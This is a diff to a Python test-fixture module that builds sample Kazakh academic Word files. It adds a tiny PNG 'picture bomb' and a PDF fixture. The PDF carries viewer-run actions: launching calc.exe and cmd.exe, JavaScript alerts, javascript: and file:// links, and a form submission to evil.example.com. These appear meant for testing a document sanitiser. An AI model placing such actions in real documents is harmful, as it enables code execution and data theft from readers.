@@ -1,4 +1,5 @@
-"""Small DOCX papers for tests, built with python-docx: what a speaker's Word file looks like.
+"""Small DOCX papers for tests, built with python-docx: what a speaker's Word file looks like
+(and `pdf_with_actions`, a PDF built with pypdf that carries actions a viewer would run).
 
 `make_docx` writes a Kazakh academic paper with the parts a test asks for. python-docx has no API
 for footnotes, equations or linked pictures, so those are written as WordprocessingML here, the
@@ -8,6 +9,7 @@ way Word itself stores them. The texts are module constants, so tests can look f
 import io
 import struct
 import zipfile
+import zlib
 from pathlib import Path
 
 from docx import Document
@@ -20,6 +22,15 @@ from docx.oxml import parse_xml
 from docx.oxml.ns import nsdecls, qn
 from docx.shared import Cm
 from PIL import Image
+from pypdf import PdfWriter
+from pypdf.generic import (
+    ArrayObject,
+    DictionaryObject,
+    FloatObject,
+    NameObject,
+    NumberObject,
+    TextStringObject,
+)
 
 KAZAKH_LETTERS = "ә ғ қ ң ө ұ ү һ і Ә Ғ Қ Ң Ө Ұ Ү Һ І"
 TITLE = "Қоғамдық қауіпсіздікті қамтамасыз етудің құқықтық негіздері"
@@ -67,6 +78,7 @@ def make_docx(
     with_table=False,
     with_footnote=False,
     with_image=False,
+    pictures=(),
     with_remote_image=False,
     with_equation=False,
     with_inline_formula=False,
@@ -79,7 +91,8 @@ def make_docx(
     first paragraph has a bold and an italic run (BOLD_TEXT, ITALIC_TEXT). Options add: a table
     (TABLE_ROWS: two header rows, cells merged down and across), two footnotes (FOOTNOTES: the
     first at the end of the first paragraph, the second at the end of the last), an embedded PNG
-    4 cm wide, a picture linked to REMOTE_IMAGE_URL rather than embedded, a display equation with
+    4 cm wide (and `pictures`, each the bytes of a picture, inserted 4 cm wide after it), a
+    picture linked to REMOTE_IMAGE_URL rather than embedded, a display equation with
     a fraction and a simple inline formula (both Word's OMML), a chart (Insert ▸ Chart) and a
     numbered list (LIST_ITEMS).
     """
@@ -107,6 +120,8 @@ def make_docx(
         document.add_paragraph(
             "1-сурет. Қылмыстар динамикасы"
         ).alignment = WD_ALIGN_PARAGRAPH.CENTER
+    for picture in pictures:
+        document.add_picture(io.BytesIO(picture), width=IMAGE_WIDTH)
     if with_remote_image:
         add_linked_picture(document, REMOTE_IMAGE_URL)
     if with_equation:
@@ -128,6 +143,24 @@ def png_bytes(size=IMAGE_SIZE_PX, colour=(30, 90, 160)):
     out = io.BytesIO()
     Image.new("RGB", size, colour).save(out, format="PNG")
     return out.getvalue()
+
+
+def png_header_bytes(width, height):
+    """A PNG whose header claims `width` × `height` RGB pixels, holding one row of zeros: what a
+    picture bomb looks like from outside (a few dozen bytes), with nothing to decode behind it."""
+
+    def chunk(kind, data):
+        return (
+            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+        )
+
+    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)  # 8 bits, RGB
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + chunk(b"IHDR", header)
+        + chunk(b"IDAT", zlib.compress(bytes(1 + 3 * width)))
+        + chunk(b"IEND", b"")
+    )
 
 
 def emf_bytes():
@@ -301,3 +334,73 @@ def add_chart(document):
         )
     )
     document.add_paragraph("2-сурет. Өңірлер бойынша қылмыстар")
+
+
+SAFE_LINKS = ("https://adilet.zan.kz/kaz/docs/K950001000_", "mailto:editor@example.kz")
+UNSAFE_URIS = ("javascript:app.alert('uri')", "file:///C:/Windows/System32/calc.exe")
+UNSAFE_ACTIONS = (
+    {"/S": "/Launch", "/F": "calc.exe"},
+    {"/S": "/JavaScript", "/JS": "app.alert('link')"},
+    {"/S": "/GoToR", "/F": "other.pdf", "/D": [0, "/Fit"]},
+    {"/S": "/ImportData", "/F": "data.fdf"},
+    {"/S": "/SubmitForm", "/F": "https://evil.example.com/collect"},
+)
+
+
+def pdf_with_actions():
+    """A one-page PDF on US Letter whose links do everything a PDF viewer runs.
+
+    The page has links to SAFE_LINKS (one of them followed by chained JavaScript), to
+    UNSAFE_URIS, and with each of UNSAFE_ACTIONS; a file attachment; a form field with a
+    keystroke script; a page-open action; and, for the document, an OpenAction, an additional
+    action on closing and document-level JavaScript.
+    """
+    writer = PdfWriter()
+    writer.add_blank_page(612, 792)
+    actions = [{"/S": "/URI", "/URI": uri} for uri in SAFE_LINKS + UNSAFE_URIS]
+    actions[0]["/Next"] = {"/S": "/JavaScript", "/JS": "app.alert('chained')"}
+    actions += UNSAFE_ACTIONS
+    for number, action in enumerate(actions):
+        writer.add_annotation(0, annotation("/Link", number, {"/A": action}))
+    writer.add_annotation(0, annotation("/FileAttachment", 20, {"/Contents": "payload"}))
+    script = {"/K": {"/S": "/JavaScript", "/JS": "app.alert('field')"}}
+    writer.add_annotation(0, annotation("/Widget", 21, {"/FT": "/Tx", "/T": "x", "/AA": script}))
+    page = writer.pages[0]
+    page[NameObject("/AA")] = pdf_object({"/O": {"/S": "/JavaScript", "/JS": "app.alert('page')"}})
+    writer.root_object[NameObject("/OpenAction")] = pdf_object({"/S": "/Launch", "/F": "cmd.exe"})
+    writer.root_object[NameObject("/AA")] = pdf_object(
+        {"/WC": {"/S": "/JavaScript", "/JS": "app.alert('close')"}}
+    )
+    document_script = {"/S": "/JavaScript", "/JS": "app.alert('document')"}
+    writer.root_object[NameObject("/Names")] = pdf_object(
+        {"/JavaScript": {"/Names": ["open", document_script]}}
+    )
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def annotation(subtype, number, entries):
+    top = 760 - 30 * number
+    return pdf_object(
+        {
+            "/Type": "/Annot",
+            "/Subtype": subtype,
+            "/Rect": [72, top - 20, 300, top],
+            "/Border": [0, 0, 0],
+            **entries,
+        }
+    )
+
+
+def pdf_object(value):
+    """A Python value as a pypdf object: names start with "/", lists are arrays."""
+    if isinstance(value, dict):
+        return DictionaryObject({NameObject(key): pdf_object(item) for key, item in value.items()})
+    if isinstance(value, list):
+        return ArrayObject(pdf_object(item) for item in value)
+    if isinstance(value, str):
+        return NameObject(value) if value.startswith("/") else TextStringObject(value)
+    if isinstance(value, float):
+        return FloatObject(value)
+    return NumberObject(value)
